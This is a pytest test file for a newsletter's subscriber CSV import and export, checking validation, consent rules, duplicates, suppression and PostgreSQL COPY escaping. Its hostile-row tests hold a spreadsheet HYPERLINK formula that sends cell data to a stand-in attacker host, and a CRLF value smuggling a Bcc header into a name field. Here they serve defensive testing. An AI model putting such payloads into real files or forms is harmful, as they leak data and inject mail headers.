"""CSV import and export of subscribers, on SQLite and PostgreSQL: good rows, hostile rows."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from email_validator import EmailNotValidError, validate_email
from sqlmodel import Session, col, select

from newsletter.audience import (
    csv_bulk,
    csv_export,
    csv_import,
    csv_profile,
    csv_reader,
    csv_rows,
    csv_writer,
    gdpr,
)
from newsletter.audience.subscribers import Way, admission_refusals
from newsletter.audience.suppression import Reason, suppress
from newsletter.exceptions import InvalidInput, NotFound
from newsletter.models import (
    Newsletter,
    Subscriber,
    SubscriberEvent,
    Subscription,
    utcnow,
)
from newsletter.tables import SUB
from tests.conftest import make_newsletter

HEADER = "email,name,newsletters,status,consent_at,consent_ip,consent_source,consent_text_version"


def run_import(session: Session, data: str | bytes, **options: object) -> csv_import.ImportReport:
    raw = data.encode("utf-8") if isinstance(data, str) else data
    report = csv_import.import_csv(session, io.BytesIO(raw), **options)  # type: ignore[arg-type]
    session.commit()
    return report


def status_of(session: Session, email: str, newsletter: Newsletter) -> str | None:
    sub = session.exec(
        select(Subscription)
        .join(Subscriber, col(Subscriber.id) == Subscription.subscriber_id)
        .where(Subscriber.email == email, Subscription.newsletter_id == newsletter.id)
    ).first()
    return None if sub is None else sub.status


def subscriber(session: Session, email: str) -> Subscriber:
    found = session.exec(select(Subscriber).where(Subscriber.email == email)).first()
    assert found is not None, email
    return found


def export_rows(session: Session, **filters: object) -> list[dict[str, str]]:
    text = "".join(csv_export.export_csv(session, **filters))  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(text)))


# ---------------------------------------------------------------- good rows


def test_good_rows_import_with_their_consent_and_an_event_each(session: Session) -> None:
    weekly, daily = make_newsletter(session), make_newsletter(session)
    report = run_import(
        session,
        f"{HEADER}\n"
        f"Anna@Example.ORG,Anna K,{weekly.slug};{daily.slug},active,"
        "2025-10-19T08:00:00+02:00,192.0.2.7,web form,2025-10\n"
        f"ales@example.com,Ales,{weekly.slug}|{daily.slug},pending,,,,\n",
    )

    assert (report.rows, report.imported, report.errors) == (2, 2, [])
    anna = subscriber(session, "Anna@example.org")  # the domain is lower-cased, the local part not
    assert anna.name == "Anna K"
    subs = session.exec(select(Subscription).where(Subscription.subscriber_id == anna.id)).all()
    assert {s.newsletter_id for s in subs} == {weekly.id, daily.id}
    first = subs[0]
    assert first.status == "active"
    assert first.consent_at is not None and first.consent_at.hour in (6, 8)  # 06:00 UTC
    assert (first.consent_ip, first.consent_source, first.consent_text_version) == (
        "192.0.2.7",
        "web form",
        "2025-10",
    )
    assert status_of(session, "ales@example.com", daily) == "pending"
    events = session.exec(select(SubscriberEvent).where(SubscriberEvent.kind == "import")).all()
    assert len(events) == 4  # one per created subscription


def test_defaults_status_active_source_import_and_the_given_newsletter(session: Session) -> None:
    weekly = make_newsletter(session)
    report = run_import(session, "email\nnew@example.org\n", newsletters=[weekly.slug])

    assert report.imported == 1
    sub = session.exec(select(Subscription)).one()
    assert (sub.status, sub.consent_source) == ("active", "import")
    assert sub.consent_at is not None


def test_a_row_without_newsletter_and_no_default_is_an_error(session: Session) -> None:
    make_newsletter(session)
    report = run_import(session, "email,name\na@example.org,A\n")
    assert report.errors == [
        csv_import.RowIssue(2, "no newsletter: fill the newsletters column or give a default")
    ]


def test_an_unknown_default_newsletter_stops_before_any_row(session: Session) -> None:
    with pytest.raises(NotFound, match="no newsletter 'nope'"):
        run_import(session, "email\na@example.org\n", newsletters=["nope"])


def test_a_bom_and_semicolons_as_delimiter_are_understood(session: Session) -> None:
    weekly = make_newsletter(session)
    data = "\ufeffEmail;Name;Newsletters\r\nbom@example.org;Bo M;" + weekly.slug + "\r\n"
    report = run_import(session, data)
    assert (report.imported, report.errors) == (1, [])
    assert subscriber(session, "bom@example.org").name == "Bo M"


# ---------------------------------------------------------------- bad and hostile rows


def test_bad_rows_are_reported_by_line_and_every_valid_row_imports(session: Session) -> None:
    weekly = make_newsletter(session)
    s = weekly.slug
    report = run_import(
        session,
        f"{HEADER}\n"
        f"ok1@example.org,One,{s},,,,,\n"  # 2
        f"not-an-address,Bad,{s},,,,,\n"  # 3
        f",Nobody,{s},,,,,\n"  # 4
        f"ok2@example.org,Two,nope,,,,,\n"  # 5 unknown newsletter
        f"ok3@example.org,Three,{s},maybe,,,,\n"  # 6 bad status
        f"ok4@example.org,Four,{s},,yesterday,,,\n"  # 7 bad consent_at
        f"ok5@example.org,Five,{s},,,999.1.1.1,,\n"  # 8 bad IP
        f"ok6@example.org,Six,{s},,,,,,extra\n"  # 9 a field too many
        f"ok7@example.org,Seven,{s}\n"  # 10 missing trailing fields: fine
        f"user@exa mple.org,Space,{s},,,,,\n"  # 11
        "\n"  # 12 blank: skipped silently
        f"ok8@example.org,Eight,{s},,,,,{'v' * 40}\n",  # 13 consent_text_version too long
    )

    assert [issue.line for issue in report.errors] == [3, 4, 5, 6, 7, 8, 9, 11, 13]
    reasons = {issue.line: issue.reason for issue in report.errors}
    assert reasons[3].startswith("invalid email address 'not-an-address'")
    assert reasons[4] == "no email address"
    assert reasons[5] == "unknown newsletter 'nope'"
    assert reasons[6].startswith("status 'maybe' is not one of pending, active")
    assert reasons[7] == "consent_at 'yesterday' is not an ISO 8601 date and time"
    assert reasons[8] == "consent_ip '999.1.1.1' is not an IP address"
    assert reasons[9] == "9 fields, but the header names 8"
    assert "exa mple.org" in reasons[11]
    assert reasons[13] == "consent_text_version is longer than 32 characters"
    assert (report.rows, report.imported) == (11, 2)
    assert report.rows == report.imported + len(report.errors)  # each row counted once
    emails = set(session.exec(select(Subscriber.email)).all())
    assert emails == {"ok1@example.org", "ok7@example.org"}


def test_no_email_column_is_one_error_before_any_row(session: Session) -> None:
    weekly = make_newsletter(session)
    with pytest.raises(InvalidInput, match=r"no 'email' column \(found 'mail', 'name'\)"):
        run_import(session, "mail,name\na@example.org,A\n", newsletters=[weekly.slug])
    assert session.exec(select(Subscriber)).all() == []


def test_an_empty_file_and_a_repeated_column_are_errors(session: Session) -> None:
    with pytest.raises(InvalidInput, match="the file is empty"):
        run_import(session, b"")
    with pytest.raises(InvalidInput, match="names a column twice: email"):
        run_import(session, "email,Email\n")


def test_a_line_that_is_not_utf8_is_reported_and_the_others_import(session: Session) -> None:
    weekly = make_newsletter(session)
    data = (
        b"email,name\n"
        b"before@example.org,Before\n"
        b"latin1@example.org,Ren\xe9 \xc0 Paris\n"
        b"after@example.org,Aft\xc3\xa9r\n"
    )
    report = run_import(session, data, newsletters=[weekly.slug])

    assert report.errors == [csv_import.RowIssue(3, "not UTF-8 text (byte 0xe9 at column 23)")]
    assert (report.rows, report.imported) == (3, 2)
    assert subscriber(session, "after@example.org").name == "Aftér"


def test_a_header_that_is_not_utf8_makes_the_file_unusable(session: Session) -> None:
    with pytest.raises(InvalidInput, match="line 1: not UTF-8"):
        run_import(session, b"em\xffail\na@example.org\n")


def test_line_breaks_and_control_characters_in_names_become_spaces(session: Session) -> None:
    weekly = make_newsletter(session)
    data = (
        "email,name\n"
        '"crlf@example.org","Eve\r\nBcc: victim@example.org"\n'  # lines 2-3
        "nul@example.org,Tab\x0bbed\x00\n"  # 4: PostgreSQL text cannot even hold a NUL
        "bell@example.org,Ring\x07ing\n"  # 5
        "last@example.org,Last\n"  # 6
    )
    report = run_import(session, data, newsletters=[weekly.slug])

    assert subscriber(session, "crlf@example.org").name == "Eve Bcc: victim@example.org"
    assert subscriber(session, "nul@example.org").name == "Tab bed"
    assert subscriber(session, "bell@example.org").name == "Ring ing"
    assert subscriber(session, "last@example.org").name == "Last"
    assert [w.line for w in report.warnings] == [2, 4, 5]
    assert "line breaks and control characters replaced" in report.warnings[0].reason
    assert (report.errors, report.imported) == ([], 4)


def test_bad_quoting_is_reported_and_the_next_rows_import(session: Session) -> None:
    weekly = make_newsletter(session)
    data = 'email,name\na@example.org,"Al"ice\nb@example.org,Bob\n'
    report = run_import(session, data, newsletters=[weekly.slug])
    assert [e.line for e in report.errors] == [2]
    assert report.errors[0].reason.startswith("bad CSV:")
    assert report.imported == 1


def test_an_over_long_line_is_skipped_without_reading_it_whole(session: Session) -> None:
    weekly = make_newsletter(session)
    huge = "x" * (csv_reader.MAX_LINE_BYTES + 10)
    data = f"email,name\nlong@example.org,{huge}\nshort@example.org,S\n"
    report = run_import(session, data, newsletters=[weekly.slug])
    limit = csv_reader.MAX_LINE_BYTES
    assert report.errors == [csv_import.RowIssue(2, f"line longer than {limit} bytes")]
    assert report.imported == 1


def test_formulas_are_kept_as_text_and_neutralised_on_export(session: Session) -> None:
    weekly = make_newsletter(session)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
    data = "email,name\n" + f'formula@example.org,"{formula.replace(chr(34), chr(34) * 2)}"\n'
    data += "-dash@example.org,+plus @at\n"
    run_import(session, data, newsletters=[weekly.slug])
    assert subscriber(session, "formula@example.org").name == formula

    rows = export_rows(session, newsletter_id=weekly.id)

    by_email = {r["email"]: r for r in rows}
    assert by_email["formula@example.org"]["name"] == "'" + formula
    assert by_email["'-dash@example.org"]["name"] == "'+plus @at"
    # and the export imports back to the same values
    text = "".join(csv_export.export_csv(session, newsletter_id=weekly.id))
    other = make_newsletter(session)
    again = run_import(session, text.replace(weekly.slug, other.slug))
    assert again.errors == [] and again.updated == 0
    assert subscriber(session, "formula@example.org").name == formula
    assert status_of(session, "-dash@example.org", other) == "active"


# ---------------------------------------------------------------- merging and sticky statuses


def test_a_repeated_address_is_rejected_and_the_first_row_kept(session: Session) -> None:
    weekly = make_newsletter(session)
    data = (
        "email,name,newsletters,status\n"
        f"dup@example.org,First,{weekly.slug},active\n"
        f"other@example.org,Other,{weekly.slug},active\n"
        f"dup@example.org,Second,{weekly.slug},unsubscribed\n"
    )
    report = run_import(session, data)

    assert report.errors == [csv_import.RowIssue(4, "duplicate of line 2")]
    assert (report.rows, report.imported, report.duplicates, report.errors_total) == (3, 2, 1, 1)
    assert subscriber(session, "dup@example.org").name == "First"
    assert status_of(session, "dup@example.org", weekly) == "active"


def test_case_twins_in_one_file_are_one_subscriber(session: Session) -> None:
    weekly = make_newsletter(session)
    data = (
        f"email,name,newsletters\nReader@Example.com,Upper,{weekly.slug}\n"
        f"reader@example.com,Lower,{weekly.slug}\n"
    )
    report = run_import(session, data)

    assert report.errors == [csv_import.RowIssue(3, "duplicate of line 2")]
    people = session.exec(select(Subscriber)).all()
    assert [(p.email, p.name) for p in people] == [("Reader@example.com", "Upper")]


def test_a_case_twin_of_an_existing_subscriber_updates_that_subscriber(session: Session) -> None:
    weekly, daily = make_newsletter(session), make_newsletter(session)
    run_import(session, f"email,name,newsletters\nReader@Example.com,Reader,{weekly.slug}\n")

    report = run_import(session, f"email,newsletters\nreader@EXAMPLE.COM,{daily.slug}\n")

    assert (report.imported, report.errors) == (1, [])
    people = session.exec(select(Subscriber)).all()
    assert [p.email for p in people] == ["Reader@example.com"]
    assert status_of(session, "Reader@example.com", daily) == "active"


def test_later_rows_of_an_address_add_other_newsletters_and_never_rename(
    session: Session,
) -> None:
    """An export lists a subscriber on two newsletters as two rows: that imports back."""
    weekly, daily = make_newsletter(session), make_newsletter(session)
    data = (
        "email,name,newsletters,status\n"
        f"two@example.org,First,{weekly.slug},active\n"
        f"TWO@example.org,Second,{daily.slug},pending\n"
    )
    report = run_import(session, data)

    assert (report.rows, report.imported, report.errors) == (2, 2, [])
    assert subscriber(session, "two@example.org").name == "First"
    assert status_of(session, "two@example.org", weekly) == "active"
    assert status_of(session, "two@example.org", daily) == "pending"


def test_a_row_naming_a_newsletter_an_earlier_row_named_is_a_duplicate(session: Session) -> None:
    weekly, daily = make_newsletter(session), make_newsletter(session)
    data = (
        "email,newsletters\n"
        f"x@example.org,{weekly.slug}\n"
        f"x@example.org,{daily.slug}\n"
        f"x@example.org,{daily.slug};{weekly.slug}\n"
    )
    report = run_import(session, data)
    assert report.errors == [csv_import.RowIssue(4, "duplicate of line 2")]
    assert report.imported == 2


def test_duplicates_across_chunks_are_rejected_too(session: Session) -> None:
    weekly = make_newsletter(session)
    rows = [f"a{i}@example.org,{weekly.slug},active" for i in range(5)]
    rows.append(f"A1@example.org,{weekly.slug},unsubscribed")
    report = run_import(session, "email,newsletters,status\n" + "\n".join(rows), chunk_rows=2)

    assert report.errors == [csv_import.RowIssue(7, "duplicate of line 3")]
    assert (report.imported, report.duplicates, report.rows) == (5, 1, 6)
    assert status_of(session, "a1@example.org", weekly) == "active"


@pytest.mark.parametrize("sticky", ["unsubscribed", "bounced", "complained"])
def test_an_import_never_reactivates_a_sticky_subscription(session: Session, sticky: str) -> None:
    weekly = make_newsletter(session)
    run_import(session, f"email,newsletters,status\ngone@example.org,{weekly.slug},{sticky}\n")
    assert status_of(session, "gone@example.org", weekly) == sticky

    report = run_import(
        session, f"email,newsletters,status\ngone@example.org,{weekly.slug},active\n"
    )

    assert (report.unchanged, report.kept, report.updated) == (1, 1, 0)
    assert status_of(session, "gone@example.org", weekly) == sticky


def test_an_import_confirms_pending_and_never_downgrades_active(session: Session) -> None:
    weekly = make_newsletter(session)
    s = weekly.slug
    run_import(
        session, f"email,newsletters,status\np@example.org,{s},pending\na@example.org,{s},\n"
    )

    report = run_import(
        session, f"email,newsletters,status\np@example.org,{s},active\na@example.org,{s},pending\n"
    )

    assert (report.updated, report.unchanged) == (1, 1)
    assert status_of(session, "p@example.org", weekly) == "active"
    assert status_of(session, "a@example.org", weekly) == "active"


def test_a_row_can_unsubscribe_an_existing_subscriber(session: Session) -> None:
    weekly = make_newsletter(session)
    run_import(session, f"email,newsletters\nleaving@example.org,{weekly.slug}\n")
    report = run_import(
        session, f"email,newsletters,status\nleaving@example.org,{weekly.slug},unsubscribed\n"
    )
    assert report.updated == 1
    sub = session.exec(select(Subscription)).one()
    assert sub.status == "unsubscribed" and sub.unsubscribed_at is not None


def test_an_erased_address_is_not_imported_again(session: Session) -> None:
    weekly = make_newsletter(session)
    run_import(session, f"email,name,newsletters\nforget@example.org,Me,{weekly.slug}\n")
    gdpr.erase_subscriber(session, "forget@example.org")
    session.commit()

    report = run_import(session, f"email,name,newsletters\nForget@EXAMPLE.org,Me,{weekly.slug}\n")

    assert (report.suppressed, report.imported, report.errors_total) == (1, 0, 0)
    assert [w.line for w in report.warnings] == [2]
    assert report.warnings[0].reason.startswith(
        "Forget@example.org is on the suppression list (erased): they can come back only by"
    )
    emails = session.exec(select(Subscriber.email)).all()
    assert all(e.endswith("@invalid") for e in emails)
    assert session.exec(select(Subscription).where(Subscription.status == "active")).all() == []


@pytest.mark.parametrize("reason", [Reason.bounced, Reason.complained])
def test_a_suppressed_address_is_skipped_with_its_reason(session: Session, reason: Reason) -> None:
    weekly = make_newsletter(session)
    suppress(session, "dead@example.org", reason)
    session.commit()
    report = run_import(session, f"email,newsletters\nDEAD@example.org,{weekly.slug}\n")
    assert report.suppressed == 1
    assert report.warnings[0].reason.startswith(
        f"DEAD@example.org is on the suppression list ({reason}):"
    )
    assert session.exec(select(Subscriber)).all() == []


def test_the_admission_gate_is_asked_once_per_chunk_for_an_import(
    session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    weekly = make_newsletter(session)
    calls: list[tuple[int, Way]] = []

    def spy(session: Session, addresses: list[str], *, way: Way) -> dict[str, str]:
        calls.append((len(addresses), way))
        return admission_refusals(session, addresses, way=way)

    monkeypatch.setattr(csv_writer, "admission_refusals", spy)
    rows = "\n".join(f"g{i}@example.org" for i in range(5))
    run_import(session, "email\n" + rows, newsletters=[weekly.slug], chunk_rows=2)

    assert calls == [(2, Way.import_), (2, Way.import_), (1, Way.import_)]


# ---------------------------------------------------------------- consent


def consent_file(newsletter: Newsletter, consent: str, status: str = "") -> str:
    return f"email,newsletters,status,consent\nc@example.org,{newsletter.slug},{status},{consent}\n"


def subscription_of(session: Session, email: str) -> Subscription:
    sub = session.exec(
        select(Subscription)
        .join(Subscriber, col(Subscriber.id) == Subscription.subscriber_id)
        .where(Subscriber.email == email)
    ).one()
    return sub


@pytest.mark.parametrize("consent", ["yes", "TRUE", " 1 "])
def test_consent_yes_records_consent_at_import_time_from_source_import(
    session: Session, consent: str
) -> None:
    weekly = make_newsletter(session)
    before = utcnow()
    report = run_import(session, consent_file(weekly, consent))

    sub = subscription_of(session, "c@example.org")
    assert (report.imported, report.warnings, report.ignored_columns) == (1, [], [])
    assert (sub.status, sub.consent_source) == ("active", "import")
    assert sub.consent_at is not None
    assert sub.consent_at.replace(tzinfo=UTC) >= before.replace(microsecond=0)


def test_consent_yes_takes_consent_at_and_source_from_the_row(session: Session) -> None:
    weekly = make_newsletter(session)
    run_import(
        session,
        "email,newsletters,status,consent,consent_at,consent_source\n"
        f"c@example.org,{weekly.slug},pending,Yes,2024-05-01T10:00:00Z,paper form\n",
    )
    sub = subscription_of(session, "c@example.org")
    assert (sub.status, sub.consent_source) == ("pending", "paper form")
    assert sub.consent_at is not None and sub.consent_at.replace(tzinfo=UTC) == datetime(
        2024, 5, 1, 10, tzinfo=UTC
    )


@pytest.mark.parametrize("consent", ["no", "False", "0"])
def test_consent_no_makes_a_row_pending_with_no_consent_recorded(
    session: Session, consent: str
) -> None:
    weekly = make_newsletter(session)
    data = (
        "email,newsletters,consent,consent_at,consent_ip,consent_text_version\n"
        f"c@example.org,{weekly.slug},{consent},2024-05-01T10:00:00Z,192.0.2.1,v1\n"
    )
    report = run_import(session, data)

    sub = subscription_of(session, "c@example.org")
    assert (report.imported, report.warnings) == (1, [])
    assert sub.status == "pending"
    assert (sub.consent_at, sub.consent_ip, sub.consent_text_version) == (None, None, None)


def test_consent_no_against_an_explicit_active_status_is_pending_with_a_warning(
    session: Session,
) -> None:
    weekly = make_newsletter(session)
    report = run_import(session, consent_file(weekly, "no", status="active"))
    assert status_of(session, "c@example.org", weekly) == "pending"
    assert report.warnings == [csv_import.RowIssue(2, "consent 'no': pending, not active")]


@pytest.mark.parametrize("status", ["unsubscribed", "bounced", "complained", "pending"])
def test_consent_no_leaves_an_explicit_other_status_as_it_is(session: Session, status: str) -> None:
    weekly = make_newsletter(session)
    run_import(session, consent_file(weekly, "no", status=status))
    assert status_of(session, "c@example.org", weekly) == status


def test_an_empty_consent_cell_is_no_evidence_pending_with_a_warning(session: Session) -> None:
    weekly = make_newsletter(session)
    report = run_import(session, consent_file(weekly, ""))

    sub = subscription_of(session, "c@example.org")
    assert (sub.status, sub.consent_at) == ("pending", None)
    assert report.warnings == [
        csv_import.RowIssue(2, "consent is empty (no evidence of consent): pending, not active")
    ]


def test_another_consent_value_rejects_the_row(session: Session) -> None:
    weekly = make_newsletter(session)
    report = run_import(session, consent_file(weekly, "maybe"))
    assert report.errors == [
        csv_import.RowIssue(2, "consent 'maybe' is not yes or no (nor true/false, 1/0)")
    ]
    assert session.exec(select(Subscriber)).all() == []


def test_consent_no_never_turns_off_an_active_subscription(session: Session) -> None:
    weekly = make_newsletter(session)
    run_import(session, f"email,newsletters\nc@example.org,{weekly.slug}\n")
    report = run_import(session, consent_file(weekly, "no"))
    assert (report.unchanged, status_of(session, "c@example.org", weekly)) == (1, "active")


def test_a_row_without_consent_keeps_the_consent_recorded_when_it_unsubscribes(
    session: Session,
) -> None:
    weekly = make_newsletter(session)
    run_import(
        session,
        f"email,newsletters,consent_at\nc@example.org,{weekly.slug},2024-05-01T10:00:00Z\n",
    )
    run_import(session, consent_file(weekly, "no", status="unsubscribed"))

    sub = subscription_of(session, "c@example.org")
    assert sub.status == "unsubscribed"
    assert sub.consent_at is not None and sub.consent_at.year == 2024


# ---------------------------------------------------------------- the report's size


def test_the_report_keeps_the_first_1000_errors_and_counts_all(session: Session) -> None:
    weekly = make_newsletter(session)
    bad = "\n".join(f"junk{i}" for i in range(2500))
    report = run_import(session, "email\n" + bad + "\nok@example.org\n", newsletters=[weekly.slug])

    shape = report.as_dict()
    assert (shape["rows"], shape["imported"], shape["errors_total"]) == (2501, 1, 2500)
    assert len(shape["errors"]) == csv_import.MAX_ISSUES == 1000
    assert [e["line"] for e in shape["errors"]] == list(range(2, 1002))


def test_the_report_keeps_the_first_1000_warnings_and_counts_all(session: Session) -> None:
    weekly = make_newsletter(session)
    rows = "\n".join(f"w{i}@example.org,Tab\tbed" for i in range(1200))
    report = run_import(session, "email,name\n" + rows, newsletters=[weekly.slug])

    assert (report.imported, report.warnings_total, len(report.warnings)) == (1200, 1200, 1000)
    assert report.warnings[-1].line == 1001


# ---------------------------------------------------------------- export


def test_export_filters_by_newsletter_and_status(session: Session) -> None:
    weekly, daily = make_newsletter(session), make_newsletter(session)
    run_import(
        session,
        "email,newsletters,status\n"
        f"a@example.org,{weekly.slug},active\n"
        f"b@example.org,{weekly.slug},unsubscribed\n"
        f"c@example.org,{daily.slug},active\n",
    )

    everyone = export_rows(session)
    weekly_active = export_rows(session, newsletter_id=weekly.id, status="active")

    assert [r["email"] for r in everyone] == ["a@example.org", "b@example.org", "c@example.org"]
    assert list(everyone[0]) == list(csv_export.IMPORT_COLUMNS)
    assert [(r["email"], r["newsletters"], r["status"]) for r in weekly_active] == [
        ("a@example.org", weekly.slug, "active")
    ]
    assert everyone[0]["consent_source"] == "import" and everyone[0]["consent_at"]
    with pytest.raises(InvalidInput, match="status 'nope'"):
        export_rows(session, status="nope")


def test_export_pages_through_many_rows(session: Session) -> None:
    weekly = make_newsletter(session)
    rows = "\n".join(f"p{i}@example.org" for i in range(25))
    run_import(session, "email\n" + rows, newsletters=[weekly.slug])
    pieces = list(csv_export.export_csv(session, page_rows=10))
    assert len(pieces) == 3
    assert len(list(csv.DictReader(io.StringIO("".join(pieces))))) == 25


# ---------------------------------------------------------------- the email fast path


@pytest.mark.parametrize(
    "address",
    [
        "Reader.1@Example.ORG",
        "Postmaster@example.org",
        "o'neil+tag@example.org",
        "-dash@example.org",
        "a..b@example.org",
        "a.@example.org",
        "a@example",
        "a@localhost",
        "a@example.invalid",
        "x@xn--mnchen-3ya.de",
        "x@münchen.de",
        "ünï@example.org",
        '"quoted"@example.org',
        "a@[192.0.2.1]",
        "x" * 65 + "@example.org",
        "x@" + ("d" * 60 + ".") * 4 + "org",
        "a@-bad.org",
        "a@bad_.org",
    ],
)
def test_the_email_fast_path_agrees_with_email_validator(address: str) -> None:
    def full() -> str:
        try:
            return str(validate_email(address, check_deliverability=False).normalized)
        except EmailNotValidError as exc:
            return f"error: {exc}"

    def fast() -> str:
        try:
            return csv_rows.EmailNormaliser().normalise(address)
        except EmailNotValidError as exc:
            return f"error: {exc}"

    assert fast() == full()


# ---------------------------------------------------------------- concurrent writers


def test_rows_another_writer_inserted_meanwhile_are_skipped_not_fatal(session: Session) -> None:
    """The bulk insert (COPY on PostgreSQL) falls back to INSERT ... ON CONFLICT DO NOTHING."""
    weekly = make_newsletter(session)
    session.add(Subscriber(email="raced@example.org", name="Other writer"))
    session.commit()
    bulk = csv_bulk.Bulk(session)
    now = utcnow()
    rows = [  # the writer's own rows: COPY fills in no default, so they carry email_hash
        {
            **csv_profile.subscriber_row(csv_rows.Row(2, e, "Import", {}, []), now),
            "attributes": {"k": [1]},
        }
        for e in ("raced@example.org", "fresh@example.org")
    ]

    bulk.insert(SUB, rows)
    session.commit()

    people = {s.email: s for s in session.exec(select(Subscriber)).all()}
    assert people["raced@example.org"].name == "Other writer"
    assert people["fresh@example.org"].attributes == {"k": [1]}
    assert weekly.id is not None


AWKWARD = [  # what COPY's text format must escape, and what it must leave alone
    ("back\\slash\\N", {"path": "C:\\temp\\new", "tab": "a\tb"}),
    ("tab\there\r\nand line", {"nested": {"k": [1, None, "x\\y"]}}),
    ("\\.", {}),
    ("Łukasz Ąę 東京 \u00a0nbsp", {"n": 1.5, "t": True}),
]


def test_awkward_values_come_back_as_they_were_written(session: Session) -> None:
    """The bulk insert writes COPY's text format itself on PostgreSQL (a value shared by every
    row once): backslashes, tabs, line breaks, NULLs, JSON and non-ASCII text come back as given."""
    make_newsletter(session)
    bulk = csv_bulk.Bulk(session)
    now = datetime(2025, 10, 19, 8, 0, tzinfo=UTC)
    rows = []
    for n, (name, attributes) in enumerate(AWKWARD):
        row = csv_rows.Row(2 + n, f"odd{n}@example.org", name, {}, [])
        row.language = "be" if n % 2 else None  # a column with NULLs and values
        row.attributes = attributes  # type: ignore[assignment]
        rows.append(csv_profile.subscriber_row(row, now))  # created_at: one value for all rows

    assert bulk.insert(SUB, rows) is (session.get_bind().dialect.name == "postgresql")
    session.commit()

    session.expire_all()
    stored = {s.email: s for s in session.exec(select(Subscriber)).all()}
    for n, (name, attributes) in enumerate(AWKWARD):
        person = stored[f"odd{n}@example.org"]
        assert (person.name, person.attributes) == (name, attributes)
        assert person.language == ("be" if n % 2 else None)
        assert person.created_at.replace(tzinfo=UTC) == now


def test_copy_text_format_escapes_what_postgresql_reads_as_special() -> None:
    text = csv_bulk.copy_text
    assert text("a\\b\tc\nd\re") == "a\\\\b\\tc\\nd\\re"
    assert (text(None), text(True), text(False), text(7)) == ("\\N", "t", "f", "7")
    assert text(datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC)) == "2025-01-02T03:04:05+00:00"
    assert text({"a": "x\\y"}, as_json=True) == '{"a": "x\\\\\\\\y"}'
    assert list(csv_bulk._column_text([3, 1, 2], as_json=False)) == ["3", "1", "2"]
    assert list(csv_bulk._column_text([None, None], as_json=False)) == ["\\N", "\\N"]
    with pytest.raises(TypeError):
        text(1.5)  # not a column type the import writes: psycopg's own dumpers take over


def test_event_details_are_stored_as_json_objects(session: Session) -> None:
    weekly = make_newsletter(session)
    run_import(session, f"email,newsletters\nj@example.org,{weekly.slug}\n")
    session.expire_all()
    event = session.exec(select(SubscriberEvent)).one()
    assert event.detail == {"from": None, "status": "active", "line": 2}
